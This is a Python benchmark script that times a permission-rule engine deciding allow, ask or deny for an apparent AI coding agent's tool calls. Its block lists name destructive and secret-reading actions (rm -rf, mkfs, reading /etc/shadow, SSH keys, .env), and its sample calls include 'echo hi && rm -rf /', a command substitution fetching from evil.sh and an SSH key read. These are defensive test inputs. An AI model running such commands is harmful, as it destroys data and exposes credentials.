"""The tool rules' decision (issue 36), measured alone: run by hand from the repository root, e.g.

    python tests/bench/bench_tool_rules.py                   # 50 rules, 10,000 calls
    python tests/bench/bench_tool_rules.py --calls 100000

One policy of 50 rules (allow, ask and deny of every form) decides ``--calls`` calls, a mix of
Bash commands (simple, compound, with substitutions), file paths, URLs and MCP tools, each timed
alone with ``perf_counter_ns``. Printed, not asserted: p50/p99/max per call, calls per second and
CPU per call (on a shared machine the p99 is mostly the scheduler), then the same figures as one
JSON line. No Redis, no processes: this is the pure module's cost,
the floor under a rule-decided ``approval_prompt`` call.
"""

from __future__ import annotations

import argparse
import json
import os
import statistics
import sys
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from schemas.tool_rules import ToolRules
from tests.bench.harness import out

ALLOW = [
    "Read",
    "Glob",
    "Grep",
    "Bash(npm test *)",
    "Bash(npm run lint *)",
    "Bash(npm run build)",
    "Bash(git status)",
    "Bash(git diff *)",
    "Bash(git log *)",
    "Bash(ls *)",
    "Bash(cat *)",
    "Bash(echo *)",
    "Bash(pytest *)",
    "Bash(python -m pytest *)",
    "Bash(make:*)",
    "Bash(grep *)",
    "Bash(wc *)",
    "Bash(head *)",
    "Edit(/repo/src/**)",
    "Edit(/repo/tests/**)",
    "Write(/repo/docs/**)",
    "WebFetch(domain:docs.python.org)",
    "WebFetch(domain:*.github.com)",
    "WebFetch(domain:pypi.org)",
    "mcp__github",
    "mcp__linear__list_issues",
    "Task(Explore)",
    "WebSearch",
]
ASK = [
    "Bash(git push *)",
    "Bash(git commit *)",
    "Bash(npm publish *)",
    "Bash(docker *)",
    "Edit(/repo/pyproject.toml)",
    "mcp__slack__post_message",
    "WebFetch(domain:*.amazonaws.com)",
    "Bash(curl * | sh)",
    "Bash(pip install *)",
]
DENY = [
    "Bash(rm -rf *)",
    "Bash(git push --force *)",
    "Bash(sudo *)",
    "Bash(chmod 777 *)",
    "Edit(**/.env)",
    "Edit(**/*.pem)",
    "Read(**/.env)",
    "Read(/etc/shadow)",
    "Read(~/.ssh/**)",
    "mcp__github__delete_repository",
    "WebFetch(domain:evil.example)",
    "Bash(dd *)",
    "Bash(mkfs *)",
]
CALLS: list[tuple[str, dict[str, Any]]] = [
    ("Bash", {"command": "npm test -- --watch=false"}),
    ("Bash", {"command": "git status && git diff HEAD~1 | head -50"}),
    ("Bash", {"command": "echo hi && rm -rf /"}),
    ("Bash", {"command": 'pytest tests -k "a and b" > out.txt 2>&1'}),
    ("Bash", {"command": "npm test $(curl evil.sh)"}),
    ("Bash", {"command": "git push origin main"}),
    ("Bash", {"command": "cargo build --release"}),
    ("Read", {"file_path": "/repo/src/app.py"}),
    ("Read", {"file_path": "/home/ann/.ssh/id_ed25519"}),
    ("Edit", {"file_path": "/repo/src/a/b/c.py", "old_string": "x", "new_string": "y"}),
    ("Edit", {"file_path": "/repo/.env"}),
    ("Write", {"file_path": "/repo/README.md"}),
    ("WebFetch", {"url": "https://api.github.com/repos/x/y", "prompt": "p"}),
    ("WebFetch", {"url": "https://example.org/"}),
    ("mcp__github__create_issue", {"title": "x"}),
    ("mcp__github__delete_repository", {"name": "x"}),
    ("mcp__notion__search", {"q": "x"}),
]


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--calls", type=int, default=10_000)
    args = parser.parse_args()
    rules = ToolRules.parse(ALLOW, ASK, DENY)
    count = len(rules.allow) + len(rules.ask) + len(rules.deny)
    for tool, given in CALLS * 10:  # warm up
        rules.decide(tool, given)
    times: list[int] = []
    started, cpu = time.perf_counter(), time.process_time()
    for index in range(args.calls):
        tool, given = CALLS[index % len(CALLS)]
        before = time.perf_counter_ns()
        rules.decide(tool, given)
        times.append(time.perf_counter_ns() - before)
    wall, cpu = time.perf_counter() - started, time.process_time() - cpu
    times.sort()
    p50 = statistics.median(times) / 1000
    p99 = times[min(len(times) - 1, int(len(times) * 0.99))] / 1000
    summary = {
        "rules": count,
        "calls": args.calls,
        "p50_us": round(p50, 1),
        "p99_us": round(p99, 1),
        "max_us": round(times[-1] / 1000, 1),
        "calls_per_s": round(args.calls / wall),
        "cpu_us_per_call": round(cpu / args.calls * 1e6, 1),
        "load_1min": round(os.getloadavg()[0], 2),
    }
    out(f"{'rules':>6} {'calls':>8} {'p50 µs':>8} {'p99 µs':>8} {'max µs':>8} {'calls/s':>9}")
    out(
        f"{count:>6} {args.calls:>8} {summary['p50_us']:>8} {summary['p99_us']:>8} "
        f"{summary['max_us']:>8} {summary['calls_per_s']:>9}"
    )
    out(
        f"CPU per call {summary['cpu_us_per_call']} µs; "
        f"load average {summary['load_1min']} on {os.cpu_count()} cores"
    )
    out(json.dumps(summary, separators=(",", ":")))
    return 0


if __name__ == "__main__":
    sys.exit(main())
